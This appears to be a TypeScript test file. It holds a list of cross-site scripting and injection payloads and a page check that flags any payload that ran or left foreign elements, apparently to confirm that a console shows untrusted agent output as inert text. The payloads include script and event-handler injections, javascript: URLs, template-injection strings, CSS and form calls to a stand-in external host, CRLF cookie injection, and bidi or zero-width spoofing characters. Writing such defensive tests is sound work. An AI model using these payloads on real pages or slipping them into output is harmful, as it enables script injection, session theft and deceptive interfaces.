/**
 * Texts by which an agent might run, load, hide or fake something in the browser of a person. A success sets `__owned`,
 * makes an element, or asks another place for something.
 */
const run = "globalThis.__owned=1";
const elsewhere = "https://owned.example.test/x";

export const payloads: readonly string[] = [
  // elements that run
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="${elsewhere}.js"></script>`,
  `<script type="module">import "${elsewhere}.js"</script>`,
  `<script\u0000>${run}</script>`,
  `<<script>script>${run}<</script>/script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // handlers
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" `,
  `<img/src=\`x\`onerror=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<div onpointerrawupdate=${run} style="position:fixed;inset:0">over everything</div>`,
  `<x-owned oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
  // pictures and formulas that are documents
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">click</math>`,
  // frames and other documents
  `<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__owned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__owned=1</script>"></object>`,
  `<embed src="${elsewhere}.svg">`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  // addresses
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<a href="javascript:${run}">approve</a>`,
  `<a href="${elsewhere}" target=_blank>see the evidence</a>`,
  `[approved](javascript:${run})`,
  `![seen](${elsewhere}.png)`,
  `//owned.example.test/x`,
  // out of an attribute, a template, a document
  `"><img src=x onerror=${run}>`,
  `' autofocus onfocus='${run}`,
  `\`\${${run}}\``,
  `{{constructor.constructor("${run}")()}}`,
  `\${globalThis.__owned=1}<%= ${run} %>#{${run}}`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `</title></textarea></style><img src=x onerror=${run}>`,
  // what changes how everything else looks or where it goes
  `<style>*{display:none}@import "${elsewhere}.css";</style>`,
  `</style><link rel=stylesheet href="${elsewhere}.css">`,
  `x;background:url(${elsewhere}.png)`,
  `<base href="${elsewhere}/"><meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<form action="${elsewhere}"><button>Approve</button></form>`,
  // characters
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u202Egpj.exe\u202C \u2066<img src=x onerror=${run}>\u2069`,
  `app\u200Bro\u2060ved\uFEFF \u{E0041}\u{E0042} ＜script＞${run}＜/script＞`,
  `\u001B[2J\u001B]8;;${elsewhere}\u0007click\u001B]8;;\u0007\u001B[31m[assent] approved`,
  `one\r\nSet-Cookie: owned=1\r\n\r\n<script>${run}</script>`,
  `__proto__`,
  `constructor`,
  `👩‍👩‍👧‍👦🏴‍☠️ <b>bold</b> ${"Z\u0351\u036B".repeat(20)}`,
  `${"A".repeat(3_000)}<img src=x onerror=${run}>`,
];

/** Run in the page: whatever of it is not ours. Empty when every payload is text. */
export const offences = `(() => {
  const found = [];
  if (globalThis.__owned !== undefined || ({}).owned !== undefined) found.push("something ran");
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (/^(img|math|iframe|object|embed|video|audio|source|template|style|base|marquee|x-owned|b)$/.test(name)
      || (name === "svg" && !element.matches(".pic-wires, .legend svg, .bell-icon"))
      || (name === "noscript" && !element.textContent.startsWith("The console needs JavaScript"))
      || (name === "script" && new URL(element.src || "data:").origin !== location.origin)
      || (name === "link" && new URL(element.href).origin !== location.origin)
      || (name === "meta" && element.httpEquiv !== "")
      || (name === "a" && new URL(element.href || "data:").origin !== location.origin)
      || element.hasAttribute("action") || element.hasAttribute("srcdoc") || element.hasAttribute("autofocus"))
      found.push(element.outerHTML.slice(0, 200));
    for (const { name: attribute, value } of element.attributes)
      if (attribute.startsWith("on") || (attribute === "style" && /url|import|fixed/.test(value)))
        found.push(name + " " + attribute + "=" + value.slice(0, 200));
  }
  return [...new Set(found)];
})()`;
